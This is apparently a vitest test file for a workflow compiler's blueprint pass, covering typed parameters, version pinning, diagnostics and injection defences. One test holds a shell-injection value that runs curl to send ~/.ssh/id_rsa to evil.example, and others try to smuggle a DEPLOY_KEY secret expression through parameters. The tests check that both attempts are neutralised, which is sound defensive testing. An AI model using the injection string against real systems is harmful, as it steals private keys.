// The blueprint pass (compiler/blueprint/): instantiation, typed parameters, version resolution
// and pinning, diagnostics at the user's line (naming the blueprint file for problems inside it),
// and the attacks a parameter could try: injecting shell into a script, smuggling an expression
// (a secret read) through with:.
import { describe, expect, it } from 'vitest';
import { blueprintCatalogFromEntries, type BlueprintEntry, type TaskCatalog } from '../../core/index.ts';
import { compileManifest } from '../compile.ts';
import { testCatalog } from '../test-catalog.ts';

const entry = (over: Partial<BlueprintEntry> = {}): BlueprintEntry => ({
  name: 'greet',
  version: '1.0.0',
  description: 'says hello',
  digest: `sha256:${'1'.repeat(64)}`,
  file: 'blueprints/greet/blueprint.yaml',
  parameters: {
    type: 'object',
    additionalProperties: false,
    required: ['who'],
    properties: {
      who: { type: 'string', maxLength: 100 },
      times: { type: 'integer', minimum: 1, default: 2 },
      approvals: { type: 'object' },
    },
  },
  workflow: {
    params: { loud: { type: 'boolean', default: false } },
    approvals: '${blueprint.approvals}',
    tasks: [
      {
        id: 'hello',
        env: { WHO: '${blueprint.who}', TIMES: '${blueprint.times}' },
        run: 'echo "hello $WHO"',
      },
      { id: 'again', needs: ['hello'], run: 'true', retry: { limit: '${blueprint.times}' } },
    ],
  },
  ...over,
});

const catalogWith = (...entries: BlueprintEntry[]): TaskCatalog => ({
  ...testCatalog,
  blueprints: blueprintCatalogFromEntries(entries),
});

const manifest = (withBlock: string, uses = 'blueprints/greet@1', extra = '') => `apiVersion: maestro/v1
kind: Workflow
metadata: { name: hi }
spec:
${extra}  blueprint:
    uses: ${uses}
    with:
${withBlock}
`;

const compile = (source: string, catalog = catalogWith(entry())) =>
  compileManifest(source, { file: '.maestro/workflows/hi.yaml', catalog });

describe('spec.blueprint', () => {
  it('instantiates the tasks with typed parameters and defaults, and pins the blueprint in the plan', () => {
    const result = compile(manifest('      who: world\n      approvals: { required: 2 }'));
    expect(result.diagnostics).toEqual([]);
    const plan = result.plan!;
    expect(plan.tasks.map((t) => t.id)).toEqual(['hello', 'again']);
    expect(plan.tasks[0]!.env).toMatchObject({ WHO: 'world', TIMES: '2' });
    expect(plan.tasks[1]!.retry.limit).toBe(2); // a whole `${blueprint.times}` keeps its type
    expect(plan.approvals).toEqual({ required: 2, from: [] });
    expect(plan.params.loud).toMatchObject({ type: 'boolean', default: false });
    expect(plan.blueprint).toEqual({
      uses: 'blueprints/greet@1',
      name: 'greet',
      version: '1.0.0',
      digest: entry().digest,
    });
  });

  it('an unset optional parameter drops the key it fills (no approvals)', () => {
    expect(compile(manifest('      who: world')).plan!.approvals).toBeUndefined();
  });

  it('resolves the range like a catalog task and a new blueprint version changes the plan digest', () => {
    const older = entry();
    const newer = entry({ version: '1.2.0', digest: `sha256:${'2'.repeat(64)}` });
    const a = compile(manifest('      who: world'), catalogWith(older, newer)).plan!;
    expect(a.blueprint).toMatchObject({ version: '1.2.0', digest: newer.digest });
    const b = compile(manifest('      who: world'), catalogWith(older)).plan!;
    expect(a.digest).not.toBe(b.digest);
    expect(compile(manifest('      who: world', 'blueprints/greet@2')).diagnostics).toMatchObject([
      {
        code: 'MS5002',
        line: 6,
        message: expect.stringContaining('no version of blueprint `greet` satisfies @2'),
      },
    ]);
    expect(compile(manifest('      who: world', 'blueprints/gret@1')).diagnostics).toMatchObject([
      { code: 'MS5001', line: 6, hint: 'did you mean `blueprints/greet`?' },
    ]);
  });

  it('a parameter of the wrong type is reported at the user’s field', () => {
    const result = compile(manifest('      who: world\n      times: many'));
    expect(result.plan).toBeUndefined();
    expect(result.diagnostics).toMatchObject([
      { code: 'MS5003', file: '.maestro/workflows/hi.yaml', line: 9, pointer: '/spec/blueprint/with/times' },
    ]);
  });

  it('a problem inside the blueprint is placed at the user’s uses and names the blueprint file', () => {
    const broken = entry({
      workflow: { tasks: [{ id: 'hello', run: 'true', needs: ['nowhere'] }] },
    });
    const result = compile(manifest('      who: world'), catalogWith(broken));
    expect(result.diagnostics).toMatchObject([
      {
        code: 'MS5005',
        line: 6,
        pointer: '/spec/blueprint/uses',
        message: expect.stringContaining(
          'blueprints/greet/blueprint.yaml, at /spec/workflow/tasks/0/needs/0',
        ),
      },
    ]);
  });

  it('tasks beside a blueprint are refused', () => {
    const result = compile(
      manifest('      who: world', 'blueprints/greet@1', '  tasks: [{ id: mine, run: "true" }]\n'),
    );
    expect(result.diagnostics.map((d) => d.code)).toContain('MS5007');
  });
});

describe('attacks through blueprint parameters', () => {
  it('shell in a parameter stays data: the script text is the blueprint’s, the value an env entry', () => {
    const evil = 'x"; curl http://evil.example/$(cat ~/.ssh/id_rsa) #';
    const plan = compile(manifest(`      who: ${JSON.stringify(evil)}`)).plan!;
    const task = plan.tasks[0]!;
    expect(task.action).toEqual({ type: 'shell', script: 'echo "hello $WHO"' });
    expect(task.env.WHO).toBe(evil);
  });

  it('a blueprint that splices a parameter into a run script does not compile (MS5006)', () => {
    const splicing = entry({ workflow: { tasks: [{ id: 'hello', run: 'echo hello ${blueprint.who}' }] } });
    const result = compile(manifest('      who: world'), catalogWith(splicing));
    expect(result.plan).toBeUndefined();
    expect(result.diagnostics).toMatchObject([
      {
        code: 'MS5006',
        line: 6,
        message: expect.stringContaining('blueprints/greet/blueprint.yaml, at /spec/workflow/tasks/0/run'),
      },
    ]);
  });

  it('an expression in with: is refused, so no secret can be passed or read through a parameter (MS5004)', () => {
    const result = compile(manifest('      who: ${secrets.DEPLOY_KEY}'));
    expect(result.plan).toBeUndefined();
    expect(result.diagnostics).toMatchObject([
      { code: 'MS5004', line: 8, pointer: '/spec/blueprint/with/who' },
    ]);
    expect(result.diagnostics.every((d) => !d.message.includes('DEPLOY_KEY') || d.code === 'MS5004')).toBe(
      true,
    );
  });

  it('a ${ that reaches a parameter through a default stays a literal, never an expression', () => {
    const sneaky = entry({
      parameters: {
        type: 'object',
        properties: { who: { type: 'string', default: '${secrets.DEPLOY_KEY}' } },
      },
    });
    const plan = compile(manifest('      {}'), catalogWith(sneaky)).plan!;
    expect(plan.tasks[0]!.env.WHO).toBe('$${secrets.DEPLOY_KEY}');
    expect(plan.tasks[0]!.secrets).toEqual([]);
  });
});
